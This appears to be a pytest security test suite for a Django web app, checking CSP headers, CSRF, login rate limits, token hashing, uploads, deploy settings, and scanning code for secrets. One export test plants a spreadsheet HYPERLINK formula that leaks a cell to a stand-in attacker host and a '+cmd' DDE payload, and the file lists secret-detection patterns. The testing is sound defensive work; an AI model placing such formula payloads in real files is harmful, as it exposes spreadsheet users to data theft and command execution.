"""Hardening: headers and CSP on every page, CSRF on every unsafe request, login rate limiting, passwords,
hashed tokens, upload limits, the CSV formula guard seen from the API, `check --deploy`, and a scan of the
code for secrets and unsafe deserialisation."""

from __future__ import annotations

import os
import re
import secrets
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.core.cache import cache
from django.db import transaction
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from apps.accounts import ratelimit
from apps.accounts.models import ApiToken, User, hash_token
from tests.api.world import World

from .matrix import MATRIX, ROLES, refusal

ROOT = Path(__file__).resolve().parents[2]


def _allowed_role(name: str, method: str) -> str | None:
    rule = MATRIX[name]
    return next((r for r in ROLES if r != "anonymous" and refusal(rule, r, method) is None), None)


def _user(world: World, role: str) -> User:
    return {
        "outsider": world.outsider,
        "annotator": world.alice,
        "other_annotator": world.bob,
        "lead": world.lead,
        "owner": world.owner,
    }[role]


def _pages(world: World) -> list[tuple[str, str, str]]:
    """(name, url, role) for every HTML page of the matrix that answers GET, as a role that may open it."""
    out = []
    for name, rule in MATRIX.items():
        if rule.api or "GET" not in rule.methods or rule.access == "staff":
            continue
        role = _allowed_role(name, "GET") or "anonymous"
        url = reverse(name, kwargs=rule.kwargs(world) or None) + rule.query
        out.append((name, url, role))
    return out


class _PageScan(HTMLParser):
    """Collects what a strict CSP would block or what CSRF needs: inline scripts, event-handler and style
    attributes, and each POST form with or without its CSRF token."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.forms: list[bool] = []  # one per <form method=post>: has a csrfmiddlewaretoken input
        self.body_headers = ""
        self._in_post_form = False
        self._script_inline = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for attr, _ in attrs:
            if attr.startswith("on"):
                self.problems.append(f"<{tag} {attr}=…> (inline event handler)")
            if attr == "style":
                self.problems.append(f"<{tag} style=…> (inline style)")
        if tag == "script":
            kind = (values.get("type") or "").lower()
            if not values.get("src") and kind not in ("application/json", "application/ld+json"):
                self._script_inline = True
        if tag == "body":
            self.body_headers = values.get("hx-headers") or ""
        if tag == "form" and (values.get("method") or "get").lower() == "post":
            self._in_post_form = True
            self.forms.append(False)
        if tag == "input" and self._in_post_form and values.get("name") == "csrfmiddlewaretoken":
            self.forms[-1] = True
        for attr in ("href", "src", "action", "hx-get", "hx-post"):
            if (values.get(attr) or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {attr}=javascript:…>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._in_post_form = False
        if tag == "script":
            self._script_inline = False

    def handle_data(self, data: str) -> None:
        if self._script_inline and data.strip():
            self.problems.append("inline <script> (blocked by script-src 'self')")


@pytest.mark.django_db
def test_every_page_sends_the_security_headers_and_a_strict_csp(world: World) -> None:
    wrong = []
    for name, url, role in _pages(world):
        client = Client()
        if role != "anonymous":
            client.force_login(_user(world, role))
        response = client.get(url)
        csp = response.get("Content-Security-Policy", "")
        checks = {
            "CSP present": bool(csp),
            "script-src 'self' only": "script-src 'self'" in csp and "unsafe-inline" not in csp,
            "no unsafe-eval": "unsafe-eval" not in csp,
            "object-src 'none'": "object-src 'none'" in csp,
            "frame-ancestors 'none'": "frame-ancestors 'none'" in csp,
            "X-Frame-Options DENY": response.get("X-Frame-Options") == "DENY",
            "nosniff": response.get("X-Content-Type-Options") == "nosniff",
            "Referrer-Policy": response.get("Referrer-Policy") == "same-origin",
        }
        wrong += [f"{name} ({url}): {check}" for check, ok in checks.items() if not ok]
    assert not wrong, "\n".join(wrong)


@pytest.mark.django_db
def test_no_page_holds_inline_script_handlers_or_styles_and_every_post_form_has_a_csrf_token(
    world: World,
) -> None:
    wrong = []
    for name, url, role in _pages(world):
        if name.startswith("admin:") or name == "admin-login-limited":  # Django's admin templates: no htmx
            continue
        client = Client()
        if role != "anonymous":
            client.force_login(_user(world, role))
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(url, headers=headers)
            if "text/html" not in response.get("Content-Type", ""):
                continue
            scan = _PageScan()
            scan.feed(response.content.decode())
            wrong += [f"{name} {headers or ''}: {p}" for p in scan.problems]
            if scan.forms and not all(scan.forms):
                wrong.append(f"{name} {headers or ''}: a POST form without {{% csrf_token %}}")
            if (
                not headers
                and "<body" in response.content.decode()
                and "X-CSRFToken" not in scan.body_headers
            ):
                wrong.append(f"{name}: <body> lacks hx-headers with X-CSRFToken (htmx requests need it)")
    assert not wrong, "\n".join(wrong)


@pytest.mark.django_db
def test_every_unsafe_request_without_a_csrf_token_is_refused(world: World) -> None:
    """Pages and session-authenticated API calls, every POST/PUT/PATCH of the matrix, as a role that may
    make it: 403 without the token."""
    passed = []
    for name, rule in MATRIX.items():
        for method in rule.methods:
            if method == "GET" or rule.access == "staff":
                continue
            role = _allowed_role(name, method)
            url = reverse(name, kwargs=rule.kwargs(world) or None)
            client = APIClient(enforce_csrf_checks=True)
            if role is not None:
                client.force_login(_user(world, role))
            with transaction.atomic():
                response = client.generic(method, url, "{}", content_type="application/json")
                transaction.set_rollback(True)
            if response.status_code != 403:
                passed.append(f"{method} {name} as {role}: {response.status_code}")
    assert not passed, "accepted without a CSRF token:\n" + "\n".join(passed)


@pytest.mark.django_db
def test_htmx_requests_pass_csrf_with_the_header_the_body_carries(world: World) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.alice)
    page = client.get(reverse("annotation:queue", kwargs={"slug": world.study.slug}))
    token = re.search(r'"X-CSRFToken": "([^"]+)"', page.content.decode())
    assert token is not None
    url = reverse("taxonomy:propose", kwargs={"slug": world.study.slug})
    data = {"dimension": "symptom", "name": "Straggler", "reason": "slow rank"}
    assert client.post(url, data, headers={"HX-Request": "true"}).status_code == 403
    response = client.post(url, data, headers={"HX-Request": "true", "X-CSRFToken": token.group(1)})
    assert response.status_code == 200


@pytest.mark.django_db
def test_token_authenticated_api_calls_need_no_csrf_token(world: World) -> None:
    client = APIClient(enforce_csrf_checks=True)
    client.credentials(HTTP_AUTHORIZATION=f"Token {world.token(world.alice)}")
    url = f"/api/v1/studies/{world.study.slug}/codebook/proposals/"
    response = client.post(url, {"dimension": "symptom", "name": "Straggler"}, format="json")
    assert response.status_code == 201


# --- login rate limiting -----------------------------------------------------------------------------


@pytest.fixture
def address() -> str:
    """A fresh client address per test: counters live in the shared cache (Redis in CI)."""
    return f"198.51.100.{secrets.randbelow(250) + 1}-{secrets.token_hex(4)}"


@pytest.mark.django_db
def test_ten_failed_logins_lock_the_username_for_that_address_with_429(address: str) -> None:
    user = User.objects.create_user("rita", password="correct-horse-battery")
    client = Client(REMOTE_ADDR=address)
    url = reverse("accounts:login")
    for _ in range(ratelimit.LOGIN_FAILURE_LIMIT):
        assert client.post(url, {"username": "rita", "password": "wrong"}).status_code == 200
    refused = client.post(url, {"username": "rita", "password": "correct-horse-battery"})
    assert refused.status_code == 429
    assert b"Too many failed logins" in refused.content
    assert int(refused["Retry-After"]) == ratelimit.LOGIN_FAILURE_WINDOW
    assert "_auth_user_id" not in client.session  # even the right password is refused while locked
    other = Client(REMOTE_ADDR=f"{address}-elsewhere")
    assert other.post(url, {"username": "rita", "password": "correct-horse-battery"}).status_code == 302
    assert user.is_authenticated


@pytest.mark.django_db
def test_a_successful_login_clears_the_failures(address: str) -> None:
    User.objects.create_user("sam", password="correct-horse-battery")
    client = Client(REMOTE_ADDR=address)
    url = reverse("accounts:login")
    for _ in range(ratelimit.LOGIN_FAILURE_LIMIT - 1):
        client.post(url, {"username": "sam", "password": "wrong"})
    assert client.post(url, {"username": "sam", "password": "correct-horse-battery"}).status_code == 302
    client.logout()
    assert client.post(url, {"username": "sam", "password": "wrong"}).status_code == 200
    assert ratelimit.check("sam", address) is None


def test_the_counter_window_starts_at_the_first_failure_and_expires(address: str) -> None:
    for _ in range(ratelimit.LOGIN_FAILURE_LIMIT):
        ratelimit.record_failure("tina", address)
    assert ratelimit.check("TINA ", address) is not None  # usernames are compared case-folded
    cache.delete(ratelimit._pair_key("tina", address))  # what the window's expiry does
    assert ratelimit.check("tina", address) is None


def test_password_spraying_from_one_address_is_refused_too(address: str, settings: object) -> None:
    for n in range(ratelimit.ADDRESS_FAILURE_LIMIT):
        ratelimit.record_failure(f"user{n}", address)
    block = ratelimit.check("someone-new", address)
    assert block is not None and "from your address" in block.message


# --- accounts: passwords and tokens ------------------------------------------------------------------


@pytest.mark.django_db
def test_a_weak_password_is_refused_when_creating_an_account_over_the_api(world: World) -> None:
    client = APIClient()
    client.force_login(world.lead)
    url = f"/api/v1/studies/{world.study.slug}/members/"
    response = client.post(
        url, {"username": "weak", "role": "annotator", "password": "12345678"}, format="json"
    )
    assert response.status_code == 400
    assert "too common" in response.json()["detail"] or "numeric" in response.json()["detail"]
    assert not User.objects.filter(username="weak").exists()


@pytest.mark.django_db
def test_tokens_are_stored_hashed_and_a_revoked_token_stops_working(world: World) -> None:
    raw = world.token(world.alice)
    token = ApiToken.objects.get(key_hash=hash_token(raw))
    assert raw not in {token.key_hash, token.prefix, token.name}
    assert not ApiToken.objects.filter(key_hash=raw).exists()
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {raw}")
    assert client.get("/api/v1/me/").status_code == 200
    web = Client()
    web.force_login(world.alice)
    assert web.post(reverse("accounts:revoke-token", kwargs={"pk": token.pk})).status_code == 302
    assert client.get("/api/v1/me/").status_code == 401
    client.credentials(HTTP_AUTHORIZATION="Token tx_not-a-real-token")
    assert client.get("/api/v1/me/").status_code == 401


# --- uploads -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_upload_of_the_wrong_type_is_refused_and_nothing_is_stored(
    world: World, settings: object, tmp_path: Path
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.UPLOAD_ROOT = tmp_path / "uploads"  # type: ignore[attr-defined]
    client = APIClient()
    client.force_login(world.lead)
    url = f"/api/v1/studies/{world.study.slug}/imports/"
    evil = SimpleUploadedFile("items.pkl", b"\x80\x04\x95pickle", content_type="application/octet-stream")
    response = client.post(url, {"kind": "file", "file": evil}, format="multipart")
    assert response.status_code == 400
    assert ".pkl" in str(response.json())
    assert not Path(settings.UPLOAD_ROOT).exists() or not any(Path(settings.UPLOAD_ROOT).rglob("*"))  # type: ignore[attr-defined]


@pytest.mark.django_db
def test_an_upload_over_the_size_limit_is_refused(world: World, settings: object) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MAX_IMPORT_UPLOAD_BYTES = 1024  # type: ignore[attr-defined]
    client = APIClient()
    client.force_login(world.lead)
    big = SimpleUploadedFile(
        "items.csv", b"url\n" + b"https://example.org/x\n" * 200, content_type="text/csv"
    )
    response = client.post(f"/api/v1/studies/{world.study.slug}/imports/", {"kind": "file", "file": big})
    assert response.status_code == 400
    assert "larger than the limit" in str(response.json())


@pytest.mark.django_db
def test_exported_csv_cells_cannot_run_as_spreadsheet_formulas(
    world: World, settings: object, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    """An item titled like a formula is exported with a leading quote (the export helper's guard,
    apps/export/tables.py), checked on the file the API serves."""
    settings.EXPORT_ROOT = tmp_path  # type: ignore[attr-defined]
    from apps.adjudication.services import decide

    item = world.items[0]
    item.title = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    item.save(update_fields=["title"])
    decide(item, [{"type": ["fault"], "symptom": ["crash"], "fix": ["code"]}], actor=world.lead,
           rationale="+cmd|' /C calc'!A0", expected_decision_id=None)  # fmt: skip
    client = APIClient()
    client.force_login(world.lead)
    with django_capture_on_commit_callbacks(execute=True):  # the export task runs eagerly on commit
        job = client.post(
            f"/api/v1/studies/{world.study.slug}/exports/", {"format": "csv"}, format="json"
        ).json()
    detail = client.get(f"/api/v1/studies/{world.study.slug}/exports/{job['id']}/").json()
    assert detail["status"] == "succeeded", detail
    response = client.get(detail["download"])
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in text
    assert "'+cmd" in text
    assert not re.search(r'(^|,)"?[=+@-]HYPERLINK', text, re.MULTILINE)


# --- deployment -----------------------------------------------------------------------------------------


def _production(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in {"DEBUG", "DJANGO_ENV", "SECRET_KEY"}}
    env.update(
        DJANGO_ENV="production", SECRET_KEY=secrets.token_urlsafe(50), ALLOWED_HOSTS="taxonomist.example.org"
    )
    return subprocess.run(
        [sys.executable, "manage.py", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )


def test_check_deploy_is_clean_with_production_settings() -> None:
    result = _production("check", "--deploy", "--fail-level", "WARNING")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_production_cookies_are_secure_and_https_is_enforced() -> None:
    code = (
        "from django.conf import settings as s; "
        "print(s.DEBUG, s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SESSION_COOKIE_HTTPONLY, "
        "s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS >= 31536000, s.X_FRAME_OPTIONS)"
    )
    result = _production("shell", "--no-imports", "-c", code)
    assert result.stdout.strip().splitlines()[-1].split() == [
        "False",
        "True",
        "True",
        "True",
        "True",
        "True",
        "DENY",
    ], result.stderr


# --- the code itself ------------------------------------------------------------------------------------

SECRET_PATTERNS = {
    "GitHub token": re.compile(r"\b(gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{82})\b"),
    "AWS key": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
    "private key": re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
    "Slack token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
    "API token of ours": re.compile(r"\btx_[A-Za-z0-9_-]{40,}"),
}
UNSAFE_CODE = {
    "pickle": re.compile(r"^\s*(import pickle|from pickle import)|pickle\.loads?\(", re.MULTILINE),
    "yaml.load without SafeLoader": re.compile(r"yaml\.(load|load_all)\((?![^)]*SafeLoader)"),
    "eval/exec": re.compile(r"(?<![\w.])(eval|exec)\("),
    "shell=True": re.compile(r"shell\s*=\s*True"),
    "marshal": re.compile(r"\bmarshal\.loads?\("),
    "openpyxl without data_only": re.compile(r"load_workbook\((?!.*data_only=True).*$", re.MULTILINE),
    "|safe on untrusted text": re.compile(
        r"\{\{[^}]*\b(body|title|memo|rationale|definition|comment)\b[^}]*\|\s*safe"
    ),
}


def _source_files(*suffixes: str) -> list[Path]:
    tracked = subprocess.run(["git", "ls-files", "--cached", "--others", "--exclude-standard"], cwd=ROOT,
                             capture_output=True, text=True, check=True).stdout.split()  # fmt: skip
    return [ROOT / f for f in tracked if f.endswith(suffixes) and (ROOT / f).is_file()]


def test_no_secret_is_committed() -> None:
    found = []
    for path in _source_files(
        ".py", ".md", ".yml", ".yaml", ".json", ".toml", ".cfg", ".env", ".txt", ".html", ".js"
    ):
        if path.stat().st_size > 5_000_000:
            continue
        text = path.read_text(errors="replace")
        found += [
            f"{path.relative_to(ROOT)}: {what}"
            for what, pattern in SECRET_PATTERNS.items()
            if pattern.search(text)
        ]
    assert not found, found


def test_no_code_deserialises_or_evaluates_untrusted_input() -> None:
    found = []
    for path in _source_files(".py", ".html"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] not in ("apps", "config", "templates"):
            continue
        text = path.read_text()
        found += [f"{rel}: {what}" for what, pattern in UNSAFE_CODE.items() if pattern.search(text)]
    assert not found, found
